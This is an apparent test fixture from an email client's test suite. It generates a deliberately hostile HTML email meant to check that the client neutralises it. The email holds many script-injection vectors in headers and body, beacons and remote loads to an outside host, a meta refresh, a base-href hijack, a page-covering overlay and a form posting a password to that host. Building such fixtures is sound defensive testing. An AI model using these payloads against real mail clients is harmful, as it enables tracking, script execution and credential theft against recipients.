// SPDX-License-Identifier: Apache-2.0
// A hostile message.

/** Each element tries to run a script, to contact {@code otherHost}, or to cover the page around it. */
export function hostile(otherHost) {
    const take = name => `try{parent.taken='${name}'}catch(e){};try{top.taken='${name}'}catch(e){};new Image().src='${otherHost}/script-${name}'`;
    return `From: "<script>top.taken='from'</script>" <eve@example.org>
To: bob@example.org
Subject: <img src=x onerror="top.taken='subject'">
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head>
<meta http-equiv="refresh" content="0;url=${otherHost}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<base href="${otherHost}/" target="_top">
<link rel="stylesheet" href="${otherHost}/style.css"><link rel="prefetch" href="${otherHost}/prefetch">
<link rel="preload" as="image" href="${otherHost}/preload"><link rel="dns-prefetch" href="${otherHost}">
<style>@import url("${otherHost}/import.css");
@font-face{font-family:x;src:url("${otherHost}/font.woff2")}
html,body{font-family:x;background:url("${otherHost}/background.png")}
.cover{position:fixed;inset:-2000px;width:9000px;height:9000px;background:rgba(200,0,0,.15);z-index:2147483647;pointer-events:none}
#search,.bar,.list,.row{display:none!important}</style>
<script>${take('head')}</script><script src="${otherHost}/script.js"></script>
</head><body onload="${take('onload')}" background="${otherHost}/body.png">
<p>this is the hostile message</p>
<div class="cover"></div>
<img src="${otherHost}/remote.png" width="1" height="1"><img src="x" onerror="${take('onerror')}">
<picture><source srcset="${otherHost}/source.png"><img src="data:,"></picture>
<svg onload="${take('svg')}"><script>${take('svgscript')}</script><image href="${otherHost}/svg.png"/></svg>
<iframe src="${otherHost}/frame"></iframe><iframe srcdoc="<script>${take('srcdoc')}</script>"></iframe>
<object data="${otherHost}/frame-object"></object><embed src="${otherHost}/frame-embed">
<video src="${otherHost}/video" poster="${otherHost}/poster" autoplay></video>
<form action="${otherHost}/form" method="post"><input name="password" value="secret" autofocus onfocus="${take('focus')}"><button style="position:relative;z-index:9">go</button></form>
<a href="javascript:${take('link')}" id="link">click here</a><a ping="${otherHost}/xhr-ping" href="#x">ping</a>
<details open ontoggle="${take('toggle')}"><summary>x</summary></details>
</body></html>`.replaceAll('`', '');
}
